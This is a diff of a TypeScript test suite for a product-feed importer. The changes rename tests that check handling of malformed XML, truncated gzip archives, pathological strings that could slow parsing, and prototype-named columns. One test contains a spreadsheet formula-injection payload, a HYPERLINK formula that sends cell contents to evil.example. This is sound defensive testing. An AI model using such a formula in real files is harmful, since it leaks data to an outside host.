@@ -26,7 +26,7 @@ async function fetchGtins(fixture: StoreUnderTest, channelId: string): Promise<s
   return (await fetchProducts(fixture, channelId)).map(({ gtin }) => gtin)
 }
 
-describe('feed that fails as a whole', () => {
+describe('unusable feed', () => {
   const deep = `<rss><channel>${ITEM}</item>${'<a>'.repeat(200_000)}`
   const columns = Array.from({ length: 10_000 }, (_, index) => `c${index}`).join(',')
 
@@ -62,7 +62,7 @@ describe('feed that fails as a whole', () => {
   it.each([
     ['table', HEAD, GOOD_ROW],
     ['XML', '<rss><channel>', `${ITEM}</item>\n`],
-  ])('gzip of a %s - cut off - ImportError, nothing changed', async (_, head, row) => {
+  ])('truncated gzip of a %s - ImportError, nothing changed', async (_, head, row) => {
     const fixture = await openTestStore()
     const { channelId } = await importRows(fixture, [createProduct('31')])
     const rows = Array.from({ length: 20_000 }, (_, index) => row.replace('T', `T${index * 7_919}`))
@@ -87,7 +87,7 @@ describe('feed with hostile cells', () => {
     ['beginnings of tags', '<a '.repeat(60_000)],
     ['beginnings of entities', '&#1'.repeat(60_000)],
     ['hyphens', '-'.repeat(200_000)],
-  ])('%s - 200 kB, in every column - takes no longer than other text', async (_, piece) => {
+  ])('%s - 200 kB, in every column - takes no longer than harmless text', async (_, piece) => {
     const startedAtMs = performance.now()
     for (const names of [`product_name,${awin}`, google]) {
       for (const cell of [`"a${piece}b"`, `"1${piece}1"`]) {
@@ -101,13 +101,13 @@ describe('feed with hostile cells', () => {
     expect(performance.now() - startedAtMs).toBeLessThan(60_000)
   })
 
-  it('blank lines - before anything else - take no longer than other text', async () => {
+  it('leading blank lines - take no longer than harmless text', async () => {
     const startedAtMs = performance.now()
     await expect(readFeedText('\n'.repeat(500_000))).rejects.toThrow('is not recognised')
     expect(performance.now() - startedAtMs).toBeLessThan(60_000)
   })
 
-  it('formulas, markup and commands - in every cell - arrive as text', async () => {
+  it('formulas, markup and commands in every cell - are imported as text', async () => {
     const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
     const fixture = await openTestStore()
     const summary = await importText(
@@ -120,7 +120,7 @@ describe('feed with hostile cells', () => {
     ])
   })
 
-  it('names of JavaScript - as columns and elements - are names like others', async () => {
+  it('JavaScript property names as columns and elements - are ordinary names', async () => {
     const names = '__proto__,constructor,toString'
     const table = await readFeedText(`${names},${HEAD}a,b,c,${GOOD_ROW}`)
     expect(table.products).toHaveLength(1)
